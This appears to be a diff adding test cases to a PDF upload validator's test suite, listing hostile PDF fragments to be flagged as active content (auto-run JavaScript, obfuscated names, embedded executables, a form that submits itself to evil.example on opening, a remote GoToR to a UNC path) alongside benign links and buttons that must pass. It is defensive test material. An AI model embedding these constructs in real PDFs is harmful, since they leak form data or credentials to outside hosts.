@@ -38,6 +38,36 @@ const hostile: readonly (readonly [string, Buffer, string])[] = [
   ['another file inside', pdf('1 0 obj << /Type /EmbeddedFile >> endobj'), 'active-content'],
   ['a film', pdf('1 0 obj << /Subtype /RichMedia >> endobj'), 'active-content'],
   ['a form of the old kind', pdf('1 0 obj << /XFA [ (a) 2 0 R ] >> endobj'), 'active-content'],
+  [
+    'a script of a rendition',
+    pdf('1 0 obj << /OpenAction 4 0 R >> endobj', '4 0 obj<</S/Rendition/OP 0>>endobj'),
+    'active-content',
+  ],
+  ['a script as a text', pdf('1 0 obj << /JS(app.alert\\(1\\)) >> endobj'), 'active-content'],
+  ['a script as a text of other letters', pdf(packed('1 0 << /JS <FEFF006100 >')), 'active-content'],
+  ['a script in an object of its own', pdf('1 0 obj << /J#53 5 0 R >> endobj'), 'active-content'],
+  ['a script of a model in space', pdf('1 0 obj << /Type /3D /OnInstantiate 5 0 R >>'), 'active-content'],
+  ['a file without its type', pdf('1 0 obj << /F (a.exe) /EF << /F 5 0 R >> >>'), 'active-content'],
+  [
+    'a form that sends itself on opening',
+    pdf('1 0 obj<</OpenAction<</S/SubmitForm/F(http://evil.example/)>>>>endobj'),
+    'active-content',
+  ],
+  [
+    'another file that is opened on opening',
+    pdf('1 0 obj<</OpenAction 4 0 R>>endobj', '4 0 obj<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>endobj'),
+    'active-content',
+  ],
+  [
+    'the same on showing a page, in packed objects',
+    pdf('1 0 obj<</Type/Page/AA<</O 4 0 R>>>>endobj', packed('4 0 <</S/GoToR/F(a.pdf)>>')),
+    'active-content',
+  ],
+  [
+    'a form that sends itself, all of it packed',
+    pdf(packed('1 0 <</AA 5 0 R>>'), packed('5 0 <</O<</S/Submit#46orm>>>>')),
+    'active-content',
+  ],
   ['a lock', pdf('trailer << /Encrypt 5 0 R >>'), 'locked'],
   [
     'packed objects that do not unpack',
@@ -74,6 +104,31 @@ test.each([
   [
     'one that only speaks of such things',
     pdf('4 0 obj << >> stream\n(JavaScript, Launch and /JavaScripts) Tj\nendstream'),
+  ],
+  [
+    'one with links to the web, to other files and to its own pages, opened at a place',
+    pdf(
+      '1 0 obj<</OpenAction [3 0 R /Fit]>>endobj',
+      '4 0 obj<</Subtype/Link/A<</S/URI/URI(https://x.example/)>>>>endobj',
+      '5 0 obj<</Subtype/Link/A<</S/GoToR/F(anlage.pdf)>>>>endobj',
+      '6 0 obj<</Subtype/Link/A<</S/GoTo/D[3 0 R /Fit]>>>>endobj',
+    ),
+  ],
+  [
+    'one that opens at a place by an action',
+    pdf('1 0 obj<</OpenAction 4 0 R>>endobj', '4 0 obj<</S/GoTo>>endobj'),
+  ],
+  [
+    'a form with a button that sends it and one that empties it',
+    pdf(
+      '1 0 obj<</AcroForm<</Fields[5 0 R]>>>>endobj',
+      '5 0 obj<</FT/Btn/A<</S/SubmitForm/F(https://x.example/)/Flags 4>>>>endobj',
+      '6 0 obj<</FT/Btn/A<</S/ResetForm>>>>endobj',
+    ),
+  ],
+  [
+    'one in whose points the names of short entries turn up',
+    pdf('4 0 obj<<>>stream\n/JS(\u0001x/EF>/AA)/JSX\nendstream'),
   ],
 ])('takes %s', async (_what, bytes) => {
   expect(await faultOf(bytes)).toBeUndefined();
